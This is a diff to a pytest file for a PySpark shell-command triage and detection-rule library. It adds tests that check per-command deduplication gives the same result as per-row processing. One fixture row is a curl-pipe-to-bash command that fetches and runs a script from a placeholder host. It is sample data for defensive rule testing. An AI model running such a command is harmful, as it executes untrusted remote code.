@@ -1,5 +1,6 @@
 """Hand-checked commands through the parser, the features and the rules; every column of the gallery takes both values."""
 
+import pytest
 from pyspark.sql import functions as F
 
 from cmdlake.functions import rule_table
@@ -46,3 +47,26 @@ def test_every_rule_fires_in_the_gallery(spark):
     rows = triage_queries.QUERIES["rul0_fired_rules"](spark, "/root/testdata/sf0.001").collect()
     seen = {name for r in rows for name in r.fired_rules.split()}
     assert {r.name for r in rule_table.RULES} - seen == set()
+
+
+def test_once_per_command_equals_a_call_per_row(spark):
+    rows = [(1, "whoami", "x"), (2, None, "y"), (3, "whoami", "z"), (4, "curl -s http://a.example/i.sh | bash", None), (5, "", "x"), (6, None, None)]
+    df = spark.createDataFrame(rows, "id int, command string, text string")
+    made = lambda d: triage.with_rules(triage.with_semantics(triage.parse_commands(d)))
+    names = ("id", "command", "text", "flags", "priors", "fired_rules", "rule_strength")
+    key = lambda r: r.id
+    assert sorted(triage.once_per_command(df, made).select(*names).collect(), key=key) == sorted(made(df).select(*names).collect(), key=key)
+    several = triage.once_per_command(df, lambda d: d.select("command", F.explode(F.array(F.lit(1), F.lit(2))).alias("n")))
+    assert set(several.columns) == {"id", "command", "text", "n"}
+    assert sorted((r.id, r.n) for r in several.collect()) == [(i, n) for i in range(1, 7) for n in (1, 2)]
+
+
+@pytest.mark.parametrize("name", ["pri1_pri2_prior_vector", "pri3_candidate_mask", "pri5_coverage", "beh1_beh2_actions_stage", "agg10_rule_subsets", "agg10_top_offenders", "agg10_rule_fixes"])
+def test_rules_judge_each_command_once(spark, monkeypatch, name):
+    from cmdlake.plans import registry
+
+    judged, whole = [], triage.with_rules
+    monkeypatch.setattr(triage, "with_rules", lambda df: judged.append(df) or whole(df))
+    registry.queries()[name](spark, "/root/testdata/sf0.001")
+    r = judged[0].agg(F.count("*").alias("n"), F.count_distinct("command").alias("n_commands")).first()
+    assert len(judged) == 1 and r.n == r.n_commands > 100
